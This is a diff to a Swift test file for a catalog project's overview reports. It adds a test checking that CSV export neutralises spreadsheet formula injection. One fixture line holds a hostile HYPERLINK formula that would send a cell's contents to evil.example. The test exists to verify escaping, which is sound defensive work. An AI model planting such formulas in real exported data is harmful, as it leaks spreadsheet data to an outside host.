@@ -1,11 +1,12 @@
 import CatalogCore
 import CatalogImport
 import CatalogNode
-import CatalogReports
 import CatalogSync
 import CatalogTestSupport
 import Foundation
 import Testing
+
+@testable import CatalogReports
 
 @Suite("The overview of a national node", .serialized)
 struct OverviewTests {
@@ -156,5 +157,16 @@ struct OverviewTests {
             .verify()
         #expect(verified.failures.filter { $0.origin == "automotive-bw" }.count == entries + 1)  // and its head
         #expect(verified.failures.allSatisfy { $0.origin == "automotive-bw" })
+    }
+
+    @Test("a display name that a spreadsheet would take for a formula is written as text")
+    func formulaInjection() async throws {
+        let hostile = #"=HYPERLINK("https://evil.example/?x="&A2,"Evil")"#
+        #expect(OverviewCSV.field(hostile) == "\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&A2,\"\"Evil\"\")\"")
+        for lead in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
+            #expect(OverviewCSV.field(lead).hasPrefix("'") || OverviewCSV.field(lead).hasPrefix("\"'"))
+        }
+        #expect(OverviewCSV.field("MedicalMountains") == "MedicalMountains")
+        #expect(OverviewCSV.field("a\r\nb") == "\"a\r\nb\"")
     }
 }
